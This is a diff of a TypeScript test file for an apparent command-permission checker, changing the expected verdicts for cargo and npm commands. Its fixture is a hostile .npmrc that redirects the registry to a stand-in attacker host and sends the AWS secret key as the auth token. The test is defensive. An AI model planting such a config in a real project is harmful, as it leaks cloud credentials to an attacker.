@@ -336,7 +336,7 @@ describe("cargo", () => {
     await expectVerdicts(repo("cargo-verbs", { "Cargo.lock": "version = 3\n" }), {
       "cargo build --help": "allow",
       "cargo test -h": "allow",
-      "cargo clippy --help": "allow",
+      "cargo clippy --help": "fallthrough", // external cargo-clippy: a repository [alias] wins
       "cargo tree --locked": "allow",
       "cargo tree --frozen --depth 2 -e normal": "allow",
       "cargo tree --locked --invert serde": "allow",
@@ -548,7 +548,7 @@ describe("npm and pip", () => {
     });
   });
 
-  test("a project .npmrc (here or above) refuses the registry reads, not the local ones", async () => {
+  test("a project .npmrc (here or above) refuses every npm verb (redteam-toolchains.test.ts: why)", async () => {
     const npmrc = { ".npmrc": "registry=https://evil.test/\n//evil.test/:_authToken=$" + "{AWS_SECRET_ACCESS_KEY}\n" };
     const cases: Record<string, BinaryVerdict> = {
       "npm view lodash": "fallthrough",
@@ -561,9 +561,9 @@ describe("npm and pip", () => {
       "npm stars": "fallthrough",
       "npm profile get": "fallthrough",
       "npm owner ls lodash": "fallthrough",
-      "npm pkg get name": "allow",
-      "npm ls": "allow",
-      "npm run": "allow",
+      "npm pkg get name": "fallthrough",
+      "npm ls": "fallthrough",
+      "npm run": "fallthrough",
     };
     await expectVerdicts(repo("npmrc-here", { ...PKG, ...npmrc }), cases);
     await expectVerdicts(repo("npmrc-above", PKG, npmrc), cases);
